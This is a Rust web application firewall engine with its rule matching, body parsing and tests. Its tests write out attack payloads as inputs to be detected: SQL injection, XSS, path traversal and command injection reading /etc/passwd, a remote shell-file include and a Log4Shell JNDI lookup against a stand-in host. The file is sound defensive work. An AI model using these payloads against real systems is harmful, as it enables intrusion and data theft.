//! The web application firewall's engine: what of a request is inspected
//! (path, query names and values, cookies, `Referer`, `User-Agent`, the
//! head itself) and bodies (JSON through `json`), undone encodings
//! (`normalize`), the rules (`rules`), and the anomaly score they add up to,
//! as in the OWASP Core Rule Set. `crs` (the `crs` feature) runs the Core
//! Rule Set itself through libmodsecurity instead.

#[cfg(feature = "crs")]
#[allow(unsafe_code)]
pub mod crs;
mod json;
pub mod normalize;
pub mod rules;

use regex::RegexSet;
use rules::{Detector, Protocol, Rule, Target, RULES};
use std::fmt;

/// Where in the request a value was found: `path`, `query:q`, `cookie:session`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Location {
    Path,
    QueryName,
    Query(String),
    Cookie(String),
    Header(&'static str),
    Body(String),
    Head,
}

impl fmt::Display for Location {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Location::Path => f.write_str("path"),
            Location::QueryName => f.write_str("query_name"),
            Location::Query(name) => write!(f, "query:{name}"),
            Location::Cookie(name) => write!(f, "cookie:{name}"),
            Location::Header(name) => write!(f, "header:{name}"),
            Location::Body(name) => write!(f, "body:{name}"),
            Location::Head => f.write_str("request"),
        }
    }
}

/// One rule that matched: where, and a short escaped sample for the log.
#[derive(Debug, Clone)]
pub struct Match {
    pub rule: &'static Rule,
    pub location: String,
    pub sample: String,
}

/// What the rules found in a request.
#[derive(Debug, Default)]
pub struct Verdict {
    pub score: u32,
    pub matches: Vec<Match>,
}

/// A rule switched off, for a whole route or for some locations.
#[derive(Debug, Clone)]
pub struct Exclusion {
    /// Empty: every rule.
    pub rules: Vec<u32>,
    /// Empty: everywhere. `query:q`, `body:comment`, `cookie:*`, `path`.
    pub locations: Vec<String>,
}

impl Exclusion {
    fn covers(&self, rule: u32, location: &str) -> bool {
        (self.rules.is_empty() || self.rules.contains(&rule))
            && (self.locations.is_empty() || self.locations.iter().any(|l| location_matches(l, location)))
    }
}

/// `cookie:*` covers every cookie; otherwise the location as written.
fn location_matches(pattern: &str, location: &str) -> bool {
    match pattern.strip_suffix('*') {
        Some(prefix) => location.starts_with(prefix),
        None => pattern.eq_ignore_ascii_case(location),
    }
}

/// The compiled rules of one `waf` block.
#[derive(Debug)]
pub struct Engine {
    values: RegexSet,
    value_rules: Vec<&'static Rule>,
    agents: RegexSet,
    agent_rules: Vec<&'static Rule>,
    sqli: Option<&'static Rule>,
    xss: Option<&'static Rule>,
    protocol: Vec<&'static Rule>,
    allowed_methods: Vec<http::Method>,
    exclusions: Vec<Exclusion>,
}

/// Longest sample of a matched value written to the log.
const SAMPLE: usize = 64;

impl Engine {
    /// The rules up to `paranoia`, less those excluded everywhere.
    pub fn new(paranoia: u8, allowed_methods: Vec<http::Method>, exclusions: Vec<Exclusion>) -> Result<Engine, String> {
        let everywhere_off = |id: u32| {
            exclusions
                .iter()
                .any(|e| e.locations.is_empty() && e.rules.contains(&id))
        };
        let active: Vec<&'static Rule> = RULES
            .iter()
            .filter(|r| r.paranoia <= paranoia && !everywhere_off(r.id))
            .collect();
        let of = |target: Target| {
            active
                .iter()
                .copied()
                .filter(move |r| r.target == target)
                .collect::<Vec<_>>()
        };
        let (values, value_rules) = rules::pattern_set(&of(Target::Values), false).map_err(|e| e.to_string())?;
        // Scanner names need no canonical form, only their case ignored.
        let (agents, agent_rules) = rules::pattern_set(&of(Target::UserAgent), true).map_err(|e| e.to_string())?;
        let find = |detector: Detector| active.iter().copied().find(|r| r.detector == detector);
        Ok(Engine {
            values,
            value_rules,
            agents,
            agent_rules,
            sqli: find(Detector::Sqli),
            xss: find(Detector::Xss),
            protocol: of(Target::Head),
            allowed_methods,
            exclusions,
        })
    }

    /// Every rule that matches the request head, and the score they add up to.
    /// `has_body` is whether the request has a body however it is framed
    /// (an HTTP/2 or HTTP/3 body needs no `Content-Length`).
    pub fn inspect(&self, request: &http::request::Parts, has_body: bool) -> Verdict {
        let mut verdict = Verdict::default();
        self.check_head(request, has_body, &mut verdict);
        let path = request.uri.path();
        self.check_value(|| Location::Path, path, &mut verdict);
        if let Some(query) = request.uri.query() {
            // Split here, not by a form decoder: the values must reach
            // `normalize` still encoded (a decoder would turn overlong
            // UTF-8 into replacement characters first).
            for pair in query.split('&').filter(|p| !p.is_empty()) {
                let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
                self.check_value(|| Location::QueryName, name, &mut verdict);
                self.check_value(
                    || Location::Query(normalize::decode(name).into_owned()),
                    value,
                    &mut verdict,
                );
            }
        }
        for header in request.headers.get_all(http::header::COOKIE) {
            let Ok(text) = header.to_str() else { continue };
            for pair in text.split(';') {
                let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
                self.check_value(|| Location::Cookie(name.trim().to_string()), value.trim(), &mut verdict);
            }
        }
        if let Some(referer) = request.headers.get(http::header::REFERER).and_then(|v| v.to_str().ok()) {
            self.check_value(|| Location::Header("referer"), referer, &mut verdict);
        }
        if let Some(agent) = request
            .headers
            .get(http::header::USER_AGENT)
            .and_then(|v| v.to_str().ok())
        {
            let decoded = normalize::decode(agent);
            let matched = self.agents.is_match(&decoded).then(|| self.agents.matches(&decoded));
            for index in matched.iter().flat_map(|m| m.iter()) {
                self.record(
                    self.agent_rules[index],
                    &Location::Header("user-agent"),
                    agent,
                    &mut verdict,
                );
            }
        }
        verdict
    }

    /// Inspects the start of a body (all of it when `complete`) as its
    /// content type says: form fields, JSON keys and strings, multipart
    /// fields and text parts, or text whole. Binary bodies are not read.
    pub fn inspect_body(&self, content_type: Option<&str>, body: &[u8], complete: bool, verdict: &mut Verdict) {
        let media = content_type
            .and_then(|t| t.split(';').next())
            .map(|t| t.trim().to_ascii_lowercase())
            .unwrap_or_default();
        match media.as_str() {
            "application/x-www-form-urlencoded" => {
                for pair in String::from_utf8_lossy(body).split('&').filter(|p| !p.is_empty()) {
                    let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
                    self.check_value(|| Location::Body(normalize::decode(name).into_owned()), value, verdict);
                }
            }
            "multipart/form-data" => {
                let inspected = content_type
                    .and_then(|t| multer::parse_boundary(t).ok())
                    .and_then(|boundary| self.inspect_multipart(body, boundary, verdict));
                if inspected.is_none() {
                    self.check_value(|| Location::Body("raw".into()), &String::from_utf8_lossy(body), verdict);
                }
            }
            json if json == "application/json" || json.ends_with("+json") => {
                self.inspect_json_body(body, complete, verdict);
            }
            text if text.is_empty() || text.starts_with("text/") || text.ends_with("xml") => {
                self.check_value(|| Location::Body("raw".into()), &String::from_utf8_lossy(body), verdict);
            }
            _ => {}
        }
    }

    /// A JSON body, unless it is made of identifiers, numbers and literals
    /// only (`json::plainly_safe`): then there is nothing to inspect.
    fn inspect_json_body(&self, body: &[u8], complete: bool, verdict: &mut Verdict) {
        if complete && json::plainly_safe(body) {
            return;
        }
        self.inspect_json(body, complete, verdict);
    }

    /// Keys and strings of a JSON body at their dotted paths
    /// (`body:user.bio`), or the body as text when it is cut short or is
    /// not JSON after all.
    fn inspect_json(&self, body: &[u8], complete: bool, verdict: &mut Verdict) {
        let walked = complete
            && json::walk(body, &mut |path, text, key| {
                if key {
                    self.check_value(|| Location::QueryName, text, verdict);
                } else {
                    let at = if path.is_empty() { "raw" } else { path };
                    self.check_value(|| Location::Body(at.to_string()), text, verdict);
                }
            })
            .is_ok();
        if !walked {
            self.check_value(|| Location::Body("raw".into()), &String::from_utf8_lossy(body), verdict);
        }
    }

    /// The fields of a multipart body, and its text parts; `None` when it
    /// cannot be read as multipart.
    fn inspect_multipart(&self, body: &[u8], boundary: String, verdict: &mut Verdict) -> Option<()> {
        use futures_util::FutureExt;
        let chunk = bytes::Bytes::copy_from_slice(body);
        let stream = futures_util::stream::once(async move { Ok::<_, std::io::Error>(chunk) });
        let mut multipart = multer::Multipart::new(stream, boundary);
        // Everything is in memory: each step is ready at once.
        while let Some(field) = multipart.next_field().now_or_never()?.ok()? {
            let name = field.name().unwrap_or("").to_string();
            if let Some(file) = field.file_name() {
                self.check_value(|| Location::Body(format!("{name}.filename")), file, verdict);
            }
            let text = field
                .content_type()
                .is_none_or(|t| t.type_() == "text" || t.subtype() == "json" || t.subtype() == "xml");
            let bytes = field.bytes().now_or_never()?.ok()?;
            if text {
                self.check_value(|| Location::Body(name), &String::from_utf8_lossy(&bytes), verdict);
            }
        }
        Some(())
    }

    fn check_head(&self, request: &http::request::Parts, has_body: bool, verdict: &mut Verdict) {
        for rule in &self.protocol {
            let Detector::Protocol(check) = rule.detector else {
                continue;
            };
            let anomalous = match check {
                Protocol::Method => !self.allowed_methods.contains(&request.method),
                Protocol::NoHost => {
                    request.version == http::Version::HTTP_11
                        && !request.headers.contains_key(http::header::HOST)
                        && request.uri.authority().is_none()
                }
                Protocol::BodyOnGet => {
                    matches!(request.method, http::Method::GET | http::Method::HEAD)
                        && (has_body
                            || request.headers.contains_key(http::header::TRANSFER_ENCODING)
                            || request
                                .headers
                                .get(http::header::CONTENT_LENGTH)
                                .is_some_and(|v| v.as_bytes() != b"0"))
                }
                Protocol::AmbiguousFraming => {
                    let lengths = request.headers.get_all(http::header::CONTENT_LENGTH).iter().count();
                    lengths > 1 || (lengths == 1 && request.headers.contains_key(http::header::TRANSFER_ENCODING))
                }
            };
            if anomalous {
                self.record(rule, &Location::Head, request.method.as_str(), verdict);
            }
        }
    }

    /// Runs the value rules on `raw`, unless it is plainly safe; the
    /// location is only made (and allocated) for a value that is checked.
    fn check_value(&self, location: impl FnOnce() -> Location, raw: &str, verdict: &mut Verdict) {
        if raw.is_empty() || plainly_safe(raw) {
            return;
        }
        self.run_rules(&location(), raw, verdict);
    }

    /// Every value rule on `raw`.
    fn run_rules(&self, location: &Location, raw: &str, verdict: &mut Verdict) {
        let decoded = normalize::decode(raw);
        let canonical = normalize::canonical(&decoded);
        // Most values match nothing: `is_match` says so without the set of matches.
        if self.values.is_match(&canonical) {
            for index in self.values.matches(&canonical).iter() {
                self.record(self.value_rules[index], location, raw, verdict);
            }
        }
        if let Some(rule) = self.sqli.filter(|_| !(*location == Location::Path && plain_path(raw))) {
            // `detect_sqli` would fingerprint once more for its report.
            let sqli =
                || libinjectionrs::SqliState::new(decoded.as_bytes(), libinjectionrs::SqliFlags::FLAG_NONE).detect();
            if detect(sqli) {
                self.record(rule, location, raw, verdict);
            }
        }
        if let Some(rule) = self.xss.filter(|_| could_be_markup(&decoded)) {
            if detect(|| libinjectionrs::detect_xss(decoded.as_bytes()).is_injection()) {
                self.record(rule, location, raw, verdict);
            }
        }
    }

    /// Counts a rule once per request, unless excluded where it matched.
    fn record(&self, rule: &'static Rule, location: &Location, raw: &str, verdict: &mut Verdict) {
        if verdict.matches.iter().any(|m| m.rule.id == rule.id) {
            return;
        }
        let location = location.to_string();
        if self.exclusions.iter().any(|e| e.covers(rule.id, &location)) {
            return;
        }
        verdict.score += rule.severity as u32;
        verdict.matches.push(Match {
            rule,
            location,
            sample: sample(raw),
        });
    }
}

/// Words, numbers, identifiers (`dark_blue`, `42`, `sku-0042`): no rule can match them, so the detectors are spared most
/// values of a request. A word may be followed by `-` and digits only: `.`
/// makes `document.domain`, and libinjection reads `0--` and
/// `0x1-ora-null` as SQL.
fn plainly_safe(raw: &str) -> bool {
    plainly_safe_bytes(raw.as_bytes())
}

fn plainly_safe_bytes(bytes: &[u8]) -> bool {
    // One pass, no searching: it runs on most values of most requests.
    let mut word = 0;
    let mut underscore = false;
    for &b in bytes {
        match b {
            b'-' => break,
            // `__proto__` is prototype pollution.
            b'_' if underscore => return false,
            b'_' => underscore = true,
            b if b.is_ascii_alphanumeric() => underscore = false,
            _ => return false,
        }
        word += 1;
    }
    if word == bytes.len() {
        return word > 0;
    }
    // `0x1or-0` is SQL to libinjection: a dashed word starts with a letter,
    // and each dash is followed by digits.
    if word == 0 || !bytes[0].is_ascii_alphabetic() {
        return false;
    }
    let mut digits = 0;
    for &b in &bytes[word + 1..] {
        match b {
            b'-' if digits > 0 => digits = 0,
            b'0'..=b'9' => digits += 1,
            _ => return false,
        }
    }
    digits > 0
}

/// A path of identifiers (`/api/v1/users/42`): SQL's tokenizer reads its
/// slashes as division between names, never as SQL worth the name (a
/// property test holds it to that), so it is not run on such paths. CRS
/// does not run it on paths at all.
fn plain_path(path: &str) -> bool {
    path.split('/')
        .all(|segment| segment.is_empty() || plainly_safe(segment))
}

/// Whether a value could break into or out of HTML at all: the HTML5
/// tokenizer's five passes are run only then. Markup, attributes, quotes,
/// script URLs and CSS expressions all need one of these characters.
fn could_be_markup(decoded: &str) -> bool {
    decoded
        .bytes()
        .any(|b| matches!(b, b'<' | b'>' | b'\'' | b'"' | b'`' | b'=' | b':' | b'(' | b'&' | b'/'))
}

/// A detector's answer; a detector that panics (a bug on hostile input)
/// counts as a match rather than taking the request down with it.
fn detect(check: impl FnOnce() -> bool + std::panic::UnwindSafe) -> bool {
    std::panic::catch_unwind(check).unwrap_or(true)
}

/// The start of a value, escaped, for a log line: never the whole payload.
fn sample(raw: &str) -> String {
    let mut cut: String = raw.chars().take(SAMPLE).collect();
    if cut.len() < raw.len() {
        cut.push('…');
    }
    cut.escape_debug().to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn engine(paranoia: u8) -> Engine {
        Engine::new(paranoia, vec![http::Method::GET, http::Method::POST], Vec::new()).unwrap()
    }

    fn ids(engine: &Engine, uri: &str) -> Vec<u32> {
        let (parts, ()) = http::Request::get(uri)
            .header("host", "x")
            .body(())
            .unwrap()
            .into_parts();
        engine
            .inspect(&parts, false)
            .matches
            .iter()
            .map(|m| m.rule.id)
            .collect()
    }

    #[test]
    fn attacks_match_and_look_alikes_do_not() {
        let e = engine(1);
        for attack in [
            "/search?q=1%27%20OR%20%271%27%3D%271",
            "/search?q=1%20UNION%20SELECT%20password%20FROM%20users",
            "/p?id=1;DROP%20TABLE%20users",
            "/q?x=%3Cscript%3Ealert(1)%3C/script%3E",
            "/q?x=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
            "/file?name=..%2F..%2F..%2Fetc%2Fpasswd",
            "/file?name=%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
            "/ping?host=127.0.0.1%3Bcat%20/etc/passwd",
            "/ping?host=%60id%60",
            "/page?url=http://10.0.0.1/shell.txt",
            "/page?file=php://filter/resource=index.php",
            "/x?a=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
        ] {
            assert!(!ids(&e, attack).is_empty(), "{attack}");
        }
        for benign in [
            "/books?author=O%27Reilly",
            "/search?q=select%20a%20plan",
            "/search?q=how%20to%20update%20my%20profile%20and%20delete%20old%20posts",
            "/users/7?fields=name,email",
            "/search?q=rock%20%26%20roll",
            "/calc?expr=1%2B1%3D2",
            "/docs?path=guides/getting-started",
            "/price?discount=50%25",
            "/q?email=ada%40example.com",
        ] {
            assert_eq!(ids(&e, benign), Vec::<u32>::new(), "{benign}");
        }
    }

    #[test]
    fn exclusions_switch_rules_off_where_asked() {
        let uri = "/c?comment=%3Cscript%3Ex%3C/script%3E&q=%3Cscript%3Ex%3C/script%3E";
        let everywhere = Engine::new(
            1,
            vec![http::Method::GET],
            vec![Exclusion {
                rules: vec![941100, 941110],
                locations: Vec::new(),
            }],
        )
        .unwrap();
        assert!(ids(&everywhere, uri).iter().all(|id| !matches!(id, 941100 | 941110)));
        let comment_only = Engine::new(
            1,
            vec![http::Method::GET],
            vec![Exclusion {
                rules: Vec::new(),
                locations: vec!["query:comment".into()],
            }],
        )
        .unwrap();
        let (parts, ()) = http::Request::get(uri)
            .header("host", "x")
            .body(())
            .unwrap()
            .into_parts();
        let verdict = comment_only.inspect(&parts, false);
        assert!(verdict.matches.iter().all(|m| m.location == "query:q"), "{verdict:?}");
        assert!(!verdict.matches.is_empty());
    }

    #[test]
    fn samples_are_short_and_escaped() {
        assert_eq!(sample("a\nb"), "a\\nb");
        assert_eq!(sample(&"x".repeat(100)).chars().count(), SAMPLE + 1);
    }
}

/// Fuzzing: hostile bytes through the normaliser, the detectors and body
/// parsing must never panic. `PROPTEST_CASES` sets the effort.
#[cfg(test)]
mod fuzz {
    use super::*;
    use proptest::prelude::*;

    /// Text built of what attacks are made of: encodings, quotes, tags,
    /// comments, keywords, and any byte.
    fn hostile() -> impl Strategy<Value = String> {
        let pieces = prop_oneof![
            Just("%".to_string()),
            Just("%u".to_string()),
            Just("%c0%ae".to_string()),
            Just("%25".to_string()),
            Just("&#x".to_string()),
            Just("&lt;".to_string()),
            Just("'".to_string()),
            Just("\"".to_string()),
            Just("/*".to_string()),
            Just("*/".to_string()),
            Just("--".to_string()),
            Just("<".to_string()),
            Just(">".to_string()),
            Just("script".to_string()),
            Just("union select".to_string()),
            Just("or 1=1".to_string()),
            Just("../".to_string()),
            Just("${".to_string()),
            Just("`".to_string()),
            "[0-9a-fA-F]{1,4}".prop_map(|s| s),
            any::<char>().prop_map(String::from),
        ];
        proptest::collection::vec(pieces, 0..40).prop_map(|v| v.concat())
    }

    proptest! {
        #[test]
        fn the_values_the_fast_path_skips_match_no_rule(
            words in proptest::collection::vec(
                prop_oneof![
                    "[A-Za-z0-9_]{1,6}",
                    Just("or".to_string()),
                    Just("union".to_string()),
                    Just("select".to_string()),
                    Just("sleep".to_string()),
                    Just("null".to_string()),
                    Just("0x1".to_string()),
                    Just("__proto__".to_string()),
                    Just("1".to_string()),
                    Just("_".to_string()),
                ],
                1..6,
            ),
            numbers in proptest::collection::vec("[0-9]{1,6}", 4),
            dashes in proptest::collection::vec(any::<bool>(), 4),
        ) {
            // A word, then dash-separated numbers, as the fast path allows.
            let mut raw = words.concat();
            for (i, digits) in numbers.iter().enumerate() {
                if dashes[i] {
                    raw.push('-');
                    raw.push_str(digits);
                }
            }
            if !plainly_safe(&raw) {
                return Ok(());
            }
            let engine = Engine::new(4, vec![http::Method::GET], Vec::new()).unwrap();
            let mut verdict = Verdict::default();
            engine.run_rules(&Location::QueryName, &raw, &mut verdict);
            prop_assert!(verdict.matches.is_empty(), "{raw:?}: {:?}", verdict.matches);
        }

        #[test]
        fn json_bodies_the_fast_path_skips_match_no_rule(
            tokens in proptest::collection::vec(
                prop_oneof![
                    Just("{".to_string()), Just("}".to_string()), Just("[".to_string()), Just("]".to_string()),
                    Just(":".to_string()), Just(",".to_string()), Just(" ".to_string()), Just("\"".to_string()),
                    Just("true".to_string()), Just("false".to_string()), Just("null".to_string()),
                    Just("-1e5".to_string()), Just("0.5".to_string()), Just("+".to_string()),
                    Just("\"\"".to_string()),
                    "\"[A-Za-z0-9_]{1,6}(-[0-9]{1,3})?\"",
                    Just("\"or\"".to_string()), Just("\"union\"".to_string()), Just("\"select\"".to_string()),
                    Just("\"sleep\"".to_string()), Just("\"0x1\"".to_string()), Just("\"1\"".to_string()),
                    Just("\"script\"".to_string()), Just("\"etc\"".to_string()), Just("\"passwd\"".to_string()),
                    Just("1".to_string()), Just("0".to_string()), Just("e".to_string()), Just("-".to_string()),
                ],
                0..24,
            ),
        ) {
            let body = tokens.concat();
            if !json::plainly_safe(body.as_bytes()) {
                return Ok(());
            }
            let engine = Engine::new(4, vec![http::Method::POST], Vec::new()).unwrap();
            let mut verdict = Verdict::default();
            engine.inspect_json(body.as_bytes(), true, &mut verdict);
            prop_assert!(verdict.matches.is_empty(), "{body:?}: {:?}", verdict.matches);
        }

        #[test]
        fn plain_paths_are_never_sql_to_the_tokenizer(
            segments in proptest::collection::vec(
                prop_oneof![
                    "[A-Za-z0-9_]{1,6}(-[0-9]{1,3})?",
                    Just("or".to_string()), Just("union".to_string()), Just("select".to_string()),
                    Just("sleep".to_string()), Just("null".to_string()), Just("0x1".to_string()),
                    Just("1".to_string()), Just("0".to_string()), Just("and".to_string()),
                    Just("from".to_string()), Just("where".to_string()), Just("having".to_string()),
                    Just("".to_string()),
                ],
                1..8,
            ),
        ) {
            // Paths start with a slash; the router refuses any other.
            let path = format!("/{}", segments.join("/"));
            if !plain_path(&path) {
                return Ok(());
            }
            let state = || libinjectionrs::SqliState::new(path.as_bytes(), libinjectionrs::SqliFlags::FLAG_NONE).detect();
            prop_assert!(!state(), "{path:?}");
        }

        #[test]
        fn the_fast_path_accepts_exactly_dashed_identifiers(raw in "[a-z0-9_.x-]{0,12}") {
            // What the fast path allows, said the slow way.
            let mut parts = raw.split('-');
            let word = parts.next().unwrap_or_default();
            let expected = !word.is_empty()
                && word.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                && (!raw.contains('-') || word.bytes().next().is_some_and(|b| b.is_ascii_alphabetic()))
                && !word.contains("__")
                && parts.all(|digits| !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()));
            prop_assert_eq!(plainly_safe(&raw), expected, "{:?}", raw);
        }

        #[test]
        fn normalising_never_panics(text in hostile()) {
            let decoded = normalize::decode(&text);
            let _ = normalize::canonical(&decoded);
        }

        #[test]
        fn the_detectors_never_panic(bytes in proptest::collection::vec(any::<u8>(), 0..200), text in hostile()) {
            // Called bare: a panic here is a finding, not a match.
            let _ = libinjectionrs::detect_sqli(&bytes).is_injection();
            let _ = libinjectionrs::detect_xss(&bytes).is_injection();
            let _ = libinjectionrs::detect_sqli(text.as_bytes()).is_injection();
            let _ = libinjectionrs::detect_xss(text.as_bytes()).is_injection();
        }

        #[test]
        fn any_body_of_any_type_is_inspected_without_panic(
            body in proptest::collection::vec(any::<u8>(), 0..300),
            text in hostile(),
            complete in any::<bool>(),
        ) {
            let engine = Engine::new(4, vec![http::Method::GET], Vec::new()).unwrap();
            for content_type in [
                "application/x-www-form-urlencoded",
                "application/json",
                "multipart/form-data; boundary=b",
                "text/plain",
            ] {
                let mut verdict = Verdict::default();
                engine.inspect_body(Some(content_type), &body, complete, &mut verdict);
                engine.inspect_body(Some(content_type), text.as_bytes(), complete, &mut verdict);
            }
        }

        #[test]
        fn any_query_and_cookie_are_inspected_without_panic(text in hostile()) {
            let engine = Engine::new(4, vec![http::Method::GET], Vec::new()).unwrap();
            let encoded: String = percent_encoding::utf8_percent_encode(&text, percent_encoding::CONTROLS).to_string();
            let uri = format!("/p?a={}&{}", encoded.replace(['#', ' '], ""), encoded.replace(['#', ' '], ""));
            if let Ok(request) = http::Request::get(uri.as_str()).body(()) {
                let (mut parts, ()) = request.into_parts();
                if let Ok(cookie) = http::HeaderValue::from_str(&encoded) {
                    parts.headers.insert(http::header::COOKIE, cookie.clone());
                    parts.headers.insert(http::header::USER_AGENT, cookie);
                }
                let _ = engine.inspect(&parts, false);
            }
        }
    }
}
